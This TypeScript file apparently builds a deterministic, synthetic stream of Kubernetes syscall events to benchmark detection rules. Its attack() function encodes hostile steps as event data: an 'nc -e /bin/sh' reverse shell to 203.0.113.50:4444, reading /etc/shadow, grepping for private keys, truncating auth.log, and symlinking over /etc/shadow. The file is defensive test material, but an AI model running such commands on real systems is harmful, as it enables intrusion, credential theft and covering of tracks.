import type {
  AncestorInfo,
  ContainerInfo,
  FdInfo,
  GroupInfo,
  PodInfo,
  ProcessInfo,
  SyscallEvent,
  UserInfo,
} from '@saker/events';
import { seededRandom } from '@saker/testing';

/**
 * A synthetic but realistic stream of syscall events for the rules benchmark:
 * what the sensor of a busy Kubernetes node would publish when the loaded rules
 * are Falco's stable set plus Saker's defaults. The sensor only captures the
 * types the rules need, so there are no read/write/close events here.
 *
 * | share  | event                      | what it looks like                                                        |
 * |-------:|----------------------------|---------------------------------------------------------------------------|
 * |  40 %  | openat, read               | shared libs, /etc/ld.so.cache, /proc/self/*, /sys/fs/cgroup, app data, zoneinfo |
 * |   9 %  | openat, write/create       | /tmp, /var/log/app, /home/app/.cache, postgres data, /run, node_modules cache |
 * |   4 %  | openat, failed (ENOENT)    | probing for config files and locales                                      |
 * |   2 %  | open, read                 | older binaries using open(2)                                              |
 * |   6 %  | execve                     | sh -c, ls, cat, grep, date, curl, git, ps, python3, node, java; real ancestors |
 * |  10 %  | connect                    | tcp to databases, caches, HTTPS, udp DNS; tuples                          |
 * |   5 %  | accept4                    | servers taking connections                                                |
 * |   4 %  | socket                     | AF_INET / AF_INET6 / AF_UNIX / AF_NETLINK                                 |
 * |   3 %  | dup2 / dup3                | shells wiring pipes to 0/1/2                                              |
 * |   5 %  | unlinkat / renameat2       | temp files, log rotation, atomic config writes                            |
 * |   3 %  | fchmodat / fchownat        | install steps, chmod of sockets and caches                                |
 * |   2 %  | mkdirat                    | caches and per-request directories                                        |
 * |   1 %  | symlinkat / linkat         | release symlinks, lock files                                              |
 * |   1 %  | setuid / setgid            | daemons dropping privileges                                               |
 * |   ~1 % | suspicious                 | reads of /etc/shadow, shells with a tty in containers, nc -e, grep for keys, |
 * |        |                            | log truncation, packet sockets, stdout to a socket, symlink over /etc/shadow |
 *
 * (The remaining share is split across the rows above by the weights in MIX.)
 * Processes come from a handful of workloads, each with a container (or the
 * host), a user and an ancestor chain: nginx, a Node.js API, a Java service,
 * postgres, redis, a Python worker, and host daemons (kubelet, containerd,
 * sshd, cron, node_exporter).
 */

interface Rand {
  next(): number;
  int(n: number): number;
  pick<T>(xs: readonly T[]): T;
  hex(n: number): string;
}

function rand(seed: number): Rand {
  const next = seededRandom(seed);
  return {
    next,
    int: (n) => Math.floor(next() * n),
    pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] as T,
    hex: (n) => {
      let s = '';
      for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(next() * 16)];
      return s;
    },
  };
}

interface Workload {
  readonly container: ContainerInfo;
  readonly k8s?: PodInfo;
  readonly user: UserInfo;
  readonly group: GroupInfo;
  /** The main process and its ancestors. */
  readonly main: { name: string; exepath: string; args: readonly string[] };
  readonly ancestors: readonly AncestorInfo[];
  readonly reads: readonly string[];
  readonly writes: readonly string[];
  /** Short-lived children it runs. */
  readonly children: readonly { name: string; exepath: string; args: readonly string[] }[];
  readonly connects: readonly { dip: string; dport: number; l4proto: 'tcp' | 'udp' }[];
  readonly listenPort?: number;
  readonly ip: string;
}

const LIBS = [
  '/usr/lib/x86_64-linux-gnu/libc.so.6',
  '/usr/lib/x86_64-linux-gnu/libpthread.so.0',
  '/usr/lib/x86_64-linux-gnu/libssl.so.3',
  '/usr/lib/x86_64-linux-gnu/libcrypto.so.3',
  '/usr/lib/x86_64-linux-gnu/libz.so.1',
  '/usr/lib/locale/locale-archive',
  '/etc/ld.so.cache',
  '/usr/share/zoneinfo/UTC',
  '/etc/localtime',
  '/etc/nsswitch.conf',
  '/etc/hosts',
  '/etc/resolv.conf',
  '/etc/passwd',
  '/etc/group',
  '/proc/self/status',
  '/proc/self/maps',
  '/proc/self/cgroup',
  '/proc/meminfo',
  '/proc/stat',
  '/sys/fs/cgroup/cpu.max',
  '/sys/fs/cgroup/memory.max',
  '/dev/urandom',
  '/dev/null',
];

function pod(r: Rand, name: string, ns: string, app: string): PodInfo {
  return {
    pod_name: `${name}-${r.hex(9)}-${r.hex(5)}`,
    pod_uid: `${r.hex(8)}-${r.hex(4)}-${r.hex(4)}-${r.hex(4)}-${r.hex(12)}`,
    ns_name: ns,
    pod_labels: { app, 'pod-template-hash': r.hex(9) },
    pod_ip: `10.244.${r.int(8)}.${2 + r.int(250)}`,
  };
}

function container(r: Rand, name: string, image: string, tag: string): ContainerInfo {
  const full = r.hex(64);
  return {
    id: full.slice(0, 12),
    full_id: full,
    name,
    type: 'containerd',
    image: `${image}:${tag}`,
    image_repository: image,
    image_tag: tag,
    privileged: false,
  };
}

const SHIM: AncestorInfo = {
  pid: 1890,
  name: 'containerd-shim',
  exepath: '/usr/bin/containerd-shim-runc-v2',
};
const SYSTEMD: AncestorInfo = { pid: 1, name: 'systemd', exepath: '/usr/lib/systemd/systemd', args: [] };

function workloads(r: Rand): Workload[] {
  const app: UserInfo = { uid: 1000, name: 'app', homedir: '/home/app', shell: '/bin/sh', loginuid: -1 };
  const appG: GroupInfo = { gid: 1000, name: 'app' };
  const root: UserInfo = { uid: 0, name: 'root', homedir: '/root', shell: '/bin/bash', loginuid: -1 };
  const rootG: GroupInfo = { gid: 0, name: 'root' };
  const list: Workload[] = [];
  for (let i = 0; i < 3; i++) {
    const p = pod(r, 'web', 'shop', 'web');
    list.push({
      container: container(r, `k8s_nginx_${p.pod_name}`, 'docker.io/library/nginx', '1.25.4'),
      k8s: p,
      user: { uid: 101, name: 'nginx', homedir: '/nonexistent', shell: '/bin/false', loginuid: -1 },
      group: { gid: 101, name: 'nginx' },
      main: { name: 'nginx', exepath: '/usr/sbin/nginx', args: ['-g', 'daemon off;'] },
      ancestors: [
        { pid: 4211, name: 'nginx', exepath: '/usr/sbin/nginx', args: ['-g', 'daemon off;'] },
        SHIM,
      ],
      reads: [
        '/usr/share/nginx/html/index.html',
        '/usr/share/nginx/html/static/app.js',
        '/usr/share/nginx/html/static/app.css',
        '/etc/nginx/nginx.conf',
        '/etc/nginx/conf.d/default.conf',
        '/etc/nginx/mime.types',
      ],
      writes: ['/var/cache/nginx/client_temp/0000000012', '/var/cache/nginx/proxy_temp/3/00/0000000003'],
      children: [],
      connects: [{ dip: '10.96.14.20', dport: 8080, l4proto: 'tcp' }],
      listenPort: 80,
      ip: p.pod_ip as string,
    });
  }
  for (let i = 0; i < 3; i++) {
    const p = pod(r, 'orders-api', 'shop', 'orders-api');
    list.push({
      container: container(r, `k8s_api_${p.pod_name}`, 'registry.example.com/shop/orders-api', '2.8.1'),
      k8s: p,
      user: app,
      group: appG,
      main: { name: 'node', exepath: '/usr/local/bin/node', args: ['dist/server.js'] },
      ancestors: [
        { pid: 7001, name: 'tini', exepath: '/usr/bin/tini', args: ['--', 'node', 'dist/server.js'] },
        SHIM,
      ],
      reads: [
        '/app/dist/server.js',
        '/app/node_modules/express/lib/router/index.js',
        '/app/node_modules/pg/lib/client.js',
        '/app/config/production.json',
        '/home/app/.npmrc',
        '/etc/ssl/certs/ca-certificates.crt',
      ],
      writes: ['/tmp/upload-%.part', '/home/app/.cache/orders/%.json', '/app/logs/access-%.log'],
      children: [
        { name: 'sh', exepath: '/bin/sh', args: ['-c', 'date +%s'] },
        { name: 'git', exepath: '/usr/bin/git', args: ['rev-parse', 'HEAD'] },
      ],
      connects: [
        { dip: '10.96.33.5', dport: 5432, l4proto: 'tcp' },
        { dip: '10.96.41.9', dport: 6379, l4proto: 'tcp' },
        { dip: '10.96.0.10', dport: 53, l4proto: 'udp' },
        { dip: '151.101.1.69', dport: 443, l4proto: 'tcp' },
      ],
      listenPort: 3000,
      ip: p.pod_ip as string,
    });
  }
  {
    const p = pod(r, 'billing', 'shop', 'billing');
    list.push({
      container: container(r, `k8s_billing_${p.pod_name}`, 'registry.example.com/shop/billing', '5.2.0'),
      k8s: p,
      user: app,
      group: appG,
      main: {
        name: 'java',
        exepath: '/opt/java/openjdk/bin/java',
        args: ['-Xmx1g', '-jar', '/app/billing.jar'],
      },
      ancestors: [SHIM],
      reads: [
        '/opt/java/openjdk/lib/modules',
        '/opt/java/openjdk/lib/server/libjvm.so',
        '/app/billing.jar',
        '/app/config/application.yaml',
        '/opt/java/openjdk/conf/security/java.security',
      ],
      writes: ['/tmp/hsperfdata_app/1', '/app/logs/billing.log', '/tmp/tomcat.%.8080/work/x'],
      children: [],
      connects: [
        { dip: '10.96.33.5', dport: 5432, l4proto: 'tcp' },
        { dip: '10.96.77.2', dport: 9092, l4proto: 'tcp' },
      ],
      listenPort: 8080,
      ip: p.pod_ip as string,
    });
  }
  {
    const p = pod(r, 'postgres', 'data', 'postgres');
    list.push({
      container: container(r, `k8s_postgres_${p.pod_name}`, 'docker.io/library/postgres', '16.2'),
      k8s: p,
      user: { uid: 999, name: 'postgres', homedir: '/var/lib/postgresql', shell: '/bin/bash', loginuid: -1 },
      group: { gid: 999, name: 'postgres' },
      main: { name: 'postgres', exepath: '/usr/lib/postgresql/16/bin/postgres', args: [] },
      ancestors: [
        { pid: 3001, name: 'postgres', exepath: '/usr/lib/postgresql/16/bin/postgres', args: [] },
        SHIM,
      ],
      reads: [
        '/var/lib/postgresql/data/base/16384/2619',
        '/var/lib/postgresql/data/base/16384/1259',
        '/var/lib/postgresql/data/global/pg_control',
        '/var/lib/postgresql/data/pg_wal/000000010000000000000042',
      ],
      writes: [
        '/var/lib/postgresql/data/base/16384/%',
        '/var/lib/postgresql/data/pg_wal/000000010000000000000042',
        '/var/lib/postgresql/data/pg_stat_tmp/global.tmp',
      ],
      children: [],
      connects: [],
      listenPort: 5432,
      ip: p.pod_ip as string,
    });
  }
  {
    const p = pod(r, 'worker', 'jobs', 'worker');
    list.push({
      container: container(r, `k8s_worker_${p.pod_name}`, 'registry.example.com/jobs/worker', '1.14.3'),
      k8s: p,
      user: app,
      group: appG,
      main: {
        name: 'python3',
        exepath: '/usr/local/bin/python3.12',
        args: ['-m', 'worker', '--queue', 'emails'],
      },
      ancestors: [SHIM],
      reads: [
        '/usr/local/lib/python3.12/json/__init__.py',
        '/usr/local/lib/python3.12/site-packages/celery/app/base.py',
        '/app/worker/__init__.py',
        '/app/templates/email.html',
      ],
      writes: ['/tmp/tmp%', '/home/app/data/out-%.csv'],
      children: [{ name: 'ls', exepath: '/bin/ls', args: ['-la', '/home/app/data'] }],
      connects: [
        { dip: '10.96.41.9', dport: 6379, l4proto: 'tcp' },
        { dip: '142.250.74.100', dport: 443, l4proto: 'tcp' },
      ],
      ip: p.pod_ip as string,
    });
  }
  const host: ContainerInfo = { id: 'host' };
  list.push({
    container: host,
    user: root,
    group: rootG,
    main: { name: 'kubelet', exepath: '/usr/bin/kubelet', args: ['--config=/var/lib/kubelet/config.yaml'] },
    ancestors: [SYSTEMD],
    reads: [
      '/var/lib/kubelet/config.yaml',
      '/sys/fs/cgroup/kubepods.slice/cpu.stat',
      '/sys/fs/cgroup/kubepods.slice/memory.current',
      '/proc/1/mountinfo',
      '/var/lib/kubelet/pods/%/volumes',
    ],
    writes: ['/var/lib/kubelet/pods/%/etc-hosts', '/var/log/pods/shop_web/nginx/0.log'],
    children: [
      { name: 'mount', exepath: '/usr/bin/mount', args: ['-t', 'tmpfs', 'tmpfs', '/var/lib/kubelet/pods/x'] },
      { name: 'iptables', exepath: '/usr/sbin/iptables', args: ['-w', '-t', 'nat', '-S'] },
    ],
    connects: [{ dip: '10.0.0.10', dport: 6443, l4proto: 'tcp' }],
    listenPort: 10250,
    ip: '10.0.1.21',
  });
  list.push({
    container: host,
    user: root,
    group: rootG,
    main: { name: 'containerd', exepath: '/usr/bin/containerd', args: [] },
    ancestors: [SYSTEMD],
    reads: ['/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db', '/etc/containerd/config.toml'],
    writes: ['/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/%/fs/tmp'],
    children: [
      { name: 'runc', exepath: '/usr/bin/runc', args: ['--root', '/run/containerd/runc/k8s.io', 'state'] },
    ],
    connects: [],
    ip: '10.0.1.21',
  });
  list.push({
    container: host,
    user: { uid: 65534, name: 'nobody', homedir: '/nonexistent', shell: '/usr/sbin/nologin', loginuid: -1 },
    group: { gid: 65534, name: 'nogroup' },
    main: { name: 'node_exporter', exepath: '/usr/bin/node_exporter', args: ['--path.rootfs=/host'] },
    ancestors: [SYSTEMD],
    reads: ['/proc/stat', '/proc/loadavg', '/proc/net/dev', '/sys/class/net/eth0/statistics/rx_bytes'],
    writes: [],
    children: [],
    connects: [],
    listenPort: 9100,
    ip: '10.0.1.21',
  });
  list.push({
    container: host,
    user: root,
    group: rootG,
    main: { name: 'cron', exepath: '/usr/sbin/cron', args: ['-f'] },
    ancestors: [SYSTEMD],
    reads: ['/etc/crontab', '/etc/cron.d/e2scrub_all', '/var/spool/cron/crontabs'],
    writes: ['/run/crond.pid'],
    children: [
      {
        name: 'sh',
        exepath: '/bin/sh',
        args: ['-c', 'test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily'],
      },
      { name: 'logrotate', exepath: '/usr/sbin/logrotate', args: ['/etc/logrotate.conf'] },
    ],
    connects: [],
    ip: '10.0.1.21',
  });
  return list;
}

type Kind =
  | 'read'
  | 'write'
  | 'enoent'
  | 'open'
  | 'exec'
  | 'connect'
  | 'accept'
  | 'socket'
  | 'dup'
  | 'unlink'
  | 'rename'
  | 'chmod'
  | 'chown'
  | 'mkdir'
  | 'link'
  | 'setuid';

/** Weights per event kind (per 1000 benign events). */
const MIX: readonly (readonly [Kind, number])[] = [
  ['read', 400],
  ['write', 90],
  ['enoent', 40],
  ['open', 20],
  ['exec', 60],
  ['connect', 100],
  ['accept', 50],
  ['socket', 40],
  ['dup', 30],
  ['unlink', 35],
  ['rename', 15],
  ['chmod', 20],
  ['chown', 10],
  ['mkdir', 20],
  ['link', 10],
  ['setuid', 10],
];

export interface MixOptions {
  /** How many distinct events to build. */
  readonly size: number;
  readonly seed?: number;
  /** Share of events built to look like an attack (they should fire a rule). Default 0.01. */
  readonly suspicious?: number;
  /** Nanoseconds since the epoch of the first event. */
  readonly startNs?: bigint;
}

/** Builds the event pool. Deterministic for a given seed. */
export function generateMix(opts: MixOptions): SyscallEvent[] {
  const r = rand(opts.seed ?? 1);
  const suspicious = opts.suspicious ?? 0.01;
  const start = opts.startNs ?? 1_715_677_923_000_000_000n;
  const ws = workloads(r);
  // Only workloads that run children exec anything: nginx or postgres pods do not fork commands.
  const forking = ws.filter((w) => w.children.length > 0);
  const total = MIX.reduce((s, [, w]) => s + w, 0);
  const out: SyscallEvent[] = [];
  let pidBase = 20_000;
  for (let i = 0; i < opts.size; i++) {
    const ts = (start + BigInt(i) * 37_813n + BigInt(r.int(1000))).toString();
    const w = r.pick(ws);
    pidBase = pidBase >= 4_000_000 ? 20_000 : pidBase + 1 + r.int(3);
    if (r.next() < suspicious) {
      out.push(attack(r, ws, ts, i, pidBase));
      continue;
    }
    let roll = r.int(total);
    let kind: Kind = 'read';
    for (const [k, weight] of MIX) {
      if (roll < weight) {
        kind = k;
        break;
      }
      roll -= weight;
    }
    out.push(benign(r, kind === 'exec' ? r.pick(forking) : w, kind, ts, i, pidBase));
  }
  return out;
}

function fill(r: Rand, path: string): string {
  return path.includes('%') ? path.replace('%', r.hex(8)) : path;
}

function mainProc(w: Workload, pid: number, tid: number): ProcessInfo {
  return {
    pid,
    tid,
    ppid: w.ancestors[0]?.pid ?? 1,
    name: w.main.name,
    exe: w.main.exepath,
    exepath: w.main.exepath,
    args: w.main.args,
    cwd: w.container.id === 'host' ? '/' : '/app',
    tty: 0,
    start_ts: '1715590000000000000',
    vpid: w.container.id === 'host' ? pid : 1,
    is_exe_upper_layer: false,
    is_exe_from_memfd: false,
    cap_effective:
      w.user.uid === 0
        ? 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE'
        : '',
  };
}

/** Falco's open flag bits (PPM_O_*), which the sensor sends raw beside the rendered text. */
const PPM_OPEN_FLAGS: Readonly<Record<string, number>> = {
  O_RDONLY: 1 << 0,
  O_WRONLY: 1 << 1,
  O_RDWR: (1 << 0) | (1 << 1),
  O_CREAT: 1 << 2,
  O_APPEND: 1 << 3,
  O_EXCL: 1 << 5,
  O_NONBLOCK: 1 << 6,
  O_TRUNC: 1 << 8,
  O_DIRECTORY: 1 << 10,
  O_CLOEXEC: 1 << 12,
};

function openRawFlags(text: string): number {
  let f = 0;
  for (const name of text.split('|')) f |= PPM_OPEN_FLAGS[name] ?? 0;
  return f;
}

function fileFd(num: number, name: string): FdInfo {
  return { num, type: 'file', name, nameraw: name };
}

function base(
  w: Workload,
  type: string,
  ts: string,
  num: number,
  proc: ProcessInfo,
  res: number,
  args: Record<string, string | number>,
  fd: FdInfo | undefined,
  ancestors: readonly AncestorInfo[] = w.ancestors,
): SyscallEvent {
  const flags = args.flags;
  const opens = type === 'openat' || type === 'open';
  const e: SyscallEvent = {
    source: 'syscall',
    ts,
    num,
    cpu: num & 7,
    hostname: 'worker-1',
    type,
    dir: '<',
    res,
    args,
    ...(opens && typeof flags === 'string' ? { rawargs: { flags: openRawFlags(flags) } } : {}),
    proc,
    ancestors,
    user: w.user,
    group: w.group,
    ...(fd ? { fd } : {}),
    container: w.container,
    ...(w.k8s ? { k8s: w.k8s } : {}),
  };
  return e;
}

function benign(r: Rand, w: Workload, kind: Kind, ts: string, num: number, pid: number): SyscallEvent {
  const mainPid = 1000 + (w.ancestors[0]?.pid ?? 0) + r.int(8);
  const proc = mainProc(w, mainPid, mainPid + r.int(4));
  const fdn = 3 + r.int(60);
  switch (kind) {
    case 'read':
    case 'open': {
      const path = fill(r, r.next() < 0.55 ? r.pick(LIBS) : r.pick(w.reads.length > 0 ? w.reads : LIBS));
      return base(
        w,
        kind === 'open' ? 'open' : 'openat',
        ts,
        num,
        proc,
        fdn,
        { fd: fdn, dirfd: -100, name: path, flags: 'O_RDONLY|O_CLOEXEC', mode: 0 },
        fileFd(fdn, path),
      );
    }
    case 'write': {
      const path = fill(r, w.writes.length > 0 ? r.pick(w.writes) : `/tmp/${w.main.name}.${r.hex(6)}`);
      const flags =
        r.next() < 0.5 ? 'O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC' : 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC';
      return base(
        w,
        'openat',
        ts,
        num,
        proc,
        fdn,
        { fd: fdn, dirfd: -100, name: path, flags, mode: '0644' },
        fileFd(fdn, path),
      );
    }
    case 'enoent': {
      const path = r.pick([
        '/etc/gai.conf',
        '/usr/lib/locale/C.UTF-8/LC_MESSAGES',
        `${w.user.homedir ?? '/root'}/.config/${w.main.name}/config.json`,
        '/etc/ssl/openssl.cnf.d',
        '/usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v3/libz.so.1',
      ]);
      return base(
        w,
        'openat',
        ts,
        num,
        proc,
        -2,
        { fd: -2, dirfd: -100, name: path, flags: 'O_RDONLY|O_CLOEXEC', mode: 0 },
        { num: -1, type: 'file', name: path, nameraw: path },
      );
    }
    case 'exec': {
      const child = r.pick(w.children);
      const cpid = pid;
      const p: ProcessInfo = {
        ...mainProc(w, cpid, cpid),
        ppid: mainPid,
        name: child.name,
        exe: child.name,
        exepath: child.exepath,
        args: child.args,
        start_ts: ts,
      };
      const anc: AncestorInfo[] = [
        { pid: mainPid, name: w.main.name, exepath: w.main.exepath, args: w.main.args },
        ...w.ancestors,
      ];
      return base(
        w,
        'execve',
        ts,
        num,
        p,
        0,
        {
          exe: child.exepath,
          args: child.args.join(' '),
          tid: cpid,
          pid: cpid,
          ptid: mainPid,
          cwd: p.cwd ?? '/',
          flags: 0,
        },
        undefined,
        anc,
      );
    }
    case 'connect': {
      const c =
        w.connects.length > 0
          ? r.pick(w.connects)
          : { dip: '10.96.0.10', dport: 53, l4proto: 'udp' as const };
      const sport = 32768 + r.int(28000);
      const name = `${w.ip}:${sport}->${c.dip}:${c.dport}`;
      return base(
        w,
        'connect',
        ts,
        num,
        proc,
        0,
        { fd: fdn, addr: `${c.dip}:${c.dport}`, tuple: name },
        {
          num: fdn,
          type: 'ipv4',
          name,
          net: {
            l4proto: c.l4proto,
            family: 'ipv4',
            sip: w.ip,
            sport,
            dip: c.dip,
            dport: c.dport,
            is_server: false,
            connected: true,
          },
        },
      );
    }
    case 'accept': {
      const port = w.listenPort ?? 8080;
      const sip = `10.244.${r.int(8)}.${2 + r.int(250)}`;
      const sport = 32768 + r.int(28000);
      const name = `${sip}:${sport}->${w.ip}:${port}`;
      return base(
        w,
        'accept4',
        ts,
        num,
        proc,
        fdn,
        { fd: fdn, tuple: name, queuepct: r.int(5), flags: 0 },
        {
          num: fdn,
          type: 'ipv4',
          name,
          net: {
            l4proto: 'tcp',
            family: 'ipv4',
            sip,
            sport,
            dip: w.ip,
            dport: port,
            is_server: true,
            connected: true,
          },
        },
      );
    }
    case 'socket': {
      // As the sensor and Falco render them: families by name (aliases together), type and proto as numbers.
      const domain = r.pick(['AF_INET', 'AF_INET', 'AF_INET6', 'AF_LOCAL|AF_UNIX', 'AF_ROUTE|AF_NETLINK']);
      return base(
        w,
        'socket',
        ts,
        num,
        proc,
        fdn,
        { fd: fdn, domain, type: 1 | 0o2000000, proto: 0, flags: 'O_CLOEXEC' },
        {
          num: fdn,
          type:
            domain === 'AF_LOCAL|AF_UNIX' ? 'unix' : domain === 'AF_ROUTE|AF_NETLINK' ? 'netlink' : 'ipv4',
        },
      );
    }
    case 'dup': {
      const newfd = r.int(3);
      return base(
        w,
        r.next() < 0.5 ? 'dup2' : 'dup3',
        ts,
        num,
        proc,
        newfd,
        { res: newfd, oldfd: fdn, newfd, flags: 0 },
        { num: newfd, type: 'pipe', name: `pipe:[${100000 + r.int(900000)}]` },
      );
    }
    case 'unlink': {
      const path = `/tmp/${w.main.name}-${r.hex(8)}.tmp`;
      return base(w, 'unlinkat', ts, num, proc, 0, { dirfd: -100, name: path, flags: 0 }, undefined);
    }
    case 'rename': {
      const to = fill(r, w.writes.length > 0 ? r.pick(w.writes) : `/tmp/${w.main.name}.state`);
      return base(
        w,
        'renameat2',
        ts,
        num,
        proc,
        0,
        { olddirfd: -100, oldpath: `${to}.${r.hex(6)}.tmp`, newdirfd: -100, newpath: to, flags: 0 },
        undefined,
      );
    }
    case 'chmod': {
      const path = `/tmp/${w.main.name}-${r.hex(6)}.sock`;
      return base(w, 'fchmodat', ts, num, proc, 0, { dirfd: -100, filename: path, mode: '0660' }, undefined);
    }
    case 'chown': {
      const path = `/var/cache/${w.main.name}/${r.hex(6)}`;
      return base(
        w,
        'fchownat',
        ts,
        num,
        proc,
        0,
        { dirfd: -100, pathname: path, uid: w.user.uid, gid: w.group.gid, flags: 0 },
        undefined,
      );
    }
    case 'mkdir': {
      const path = `/tmp/${w.main.name}-${r.hex(8)}`;
      return base(w, 'mkdirat', ts, num, proc, 0, { dirfd: -100, path, mode: '0700' }, undefined);
    }
    case 'link': {
      const target = `/app/releases/${r.hex(7)}`;
      return base(
        w,
        'symlinkat',
        ts,
        num,
        proc,
        0,
        { target, linkdirfd: -100, linkpath: `/app/current-${r.hex(4)}` },
        undefined,
      );
    }
    case 'setuid': {
      return base(w, 'setuid', ts, num, proc, 0, { uid: w.user.uid === 0 ? 65534 : w.user.uid }, undefined);
    }
  }
}

/** One event shaped like a known attack step; each should fire a Falco stable or Saker rule. */
function attack(r: Rand, ws: readonly Workload[], ts: string, num: number, pid: number): SyscallEvent {
  const inContainer = ws.filter((w) => w.container.id !== 'host');
  const onHost = ws.filter((w) => w.container.id === 'host');
  const w = r.pick(inContainer);
  const h = r.pick(onHost);
  const shellAnc = (x: Workload, tty: number): { proc: ProcessInfo; anc: AncestorInfo[] } => {
    const anc: AncestorInfo[] = [
      { pid: pid - 1, name: 'bash', exepath: '/usr/bin/bash', args: [] },
      { pid: pid - 2, name: 'runc:[1:CHILD]', exepath: '/usr/bin/runc' },
      SHIM,
    ];
    return { proc: { ...mainProc(x, pid, pid), ppid: pid - 1, tty, start_ts: ts }, anc };
  };
  switch (r.int(8)) {
    case 0: {
      // cat /etc/shadow by an interactive root shell on the host
      const path = '/etc/shadow';
      const proc: ProcessInfo = {
        ...mainProc(h, pid, pid),
        name: 'cat',
        exe: 'cat',
        exepath: '/usr/bin/cat',
        args: [path],
        ppid: pid - 1,
        tty: 34817,
      };
      return base(
        h,
        'openat',
        ts,
        num,
        proc,
        3,
        { fd: 3, dirfd: -100, name: path, flags: 'O_RDONLY|O_CLOEXEC', mode: 0 },
        fileFd(3, path),
        [
          { pid: pid - 1, name: 'bash', exepath: '/usr/bin/bash', args: [] },
          { pid: pid - 2, name: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'] },
          SYSTEMD,
        ],
      );
    }
    case 1: {
      // kubectl exec -it ... -- bash
      const { proc, anc } = shellAnc(w, 34816);
      const p = { ...proc, name: 'bash', exe: 'bash', exepath: '/usr/bin/bash', args: [] };
      return base(
        w,
        'execve',
        ts,
        num,
        p,
        0,
        { exe: '/usr/bin/bash', args: '', tid: pid, pid, ptid: pid - 2, cwd: '/', flags: 0 },
        undefined,
        anc.slice(1),
      );
    }
    case 2: {
      // reverse shell
      const { proc, anc } = shellAnc(w, 0);
      const p = {
        ...proc,
        name: 'nc',
        exe: 'nc',
        exepath: '/usr/bin/nc',
        args: ['-e', '/bin/sh', '203.0.113.50', '4444'],
      };
      return base(
        w,
        'execve',
        ts,
        num,
        p,
        0,
        {
          exe: '/usr/bin/nc',
          args: '-e /bin/sh 203.0.113.50 4444',
          tid: pid,
          pid,
          ptid: pid - 1,
          cwd: '/',
          flags: 0,
        },
        undefined,
        anc,
      );
    }
    case 3: {
      const { proc, anc } = shellAnc(w, 34816);
      const p = {
        ...proc,
        name: 'grep',
        exe: 'grep',
        exepath: '/usr/bin/grep',
        args: ['-rl', 'BEGIN RSA PRIVATE', '/home'],
      };
      return base(
        w,
        'execve',
        ts,
        num,
        p,
        0,
        {
          exe: '/usr/bin/grep',
          args: '-rl BEGIN RSA PRIVATE /home',
          tid: pid,
          pid,
          ptid: pid - 1,
          cwd: '/',
          flags: 0,
        },
        undefined,
        anc,
      );
    }
    case 4: {
      // truncate the auth log on the host
      const path = '/var/log/auth.log';
      const proc: ProcessInfo = {
        ...mainProc(h, pid, pid),
        name: 'truncate',
        exe: 'truncate',
        exepath: '/usr/bin/truncate',
        args: ['-s', '0', path],
        tty: 34817,
      };
      return base(
        h,
        'openat',
        ts,
        num,
        proc,
        3,
        { fd: 3, dirfd: -100, name: path, flags: 'O_WRONLY|O_TRUNC|O_CLOEXEC', mode: 0 },
        fileFd(3, path),
        [{ pid: pid - 1, name: 'bash', exepath: '/usr/bin/bash', args: [] }, SYSTEMD],
      );
    }
    case 5: {
      // packet socket in a container
      const proc = {
        ...mainProc(w, pid, pid),
        name: 'tcpdump',
        exe: 'tcpdump',
        exepath: '/usr/bin/tcpdump',
        args: ['-i', 'eth0'],
      };
      return base(
        w,
        'socket',
        ts,
        num,
        proc,
        5,
        { fd: 5, domain: 'AF_PACKET', type: 3, proto: 768, flags: 'O_NONE' },
        { num: 5, type: 'unknown' },
      );
    }
    case 6: {
      // stdout wired to a TCP socket in a container
      const { proc, anc } = shellAnc(w, 0);
      const p = { ...proc, name: 'sh', exe: 'sh', exepath: '/bin/sh', args: ['-i'] };
      const name = `${w.ip}:${40000 + r.int(20000)}->203.0.113.50:4444`;
      return base(
        w,
        'dup2',
        ts,
        num,
        p,
        1,
        { res: 1, oldfd: 3, newfd: 1 },
        {
          num: 1,
          type: 'ipv4',
          name,
          net: {
            l4proto: 'tcp',
            family: 'ipv4',
            sip: w.ip,
            sport: 40000,
            dip: '203.0.113.50',
            dport: 4444,
            is_server: false,
            connected: true,
          },
        },
        anc,
      );
    }
    default: {
      // symlink over /etc/shadow
      const { proc, anc } = shellAnc(w, 0);
      const p = {
        ...proc,
        name: 'ln',
        exe: 'ln',
        exepath: '/usr/bin/ln',
        args: ['-s', '/etc/shadow', '/tmp/s'],
      };
      return base(
        w,
        'symlinkat',
        ts,
        num,
        p,
        0,
        { target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/s' },
        undefined,
        anc,
      );
    }
  }
}
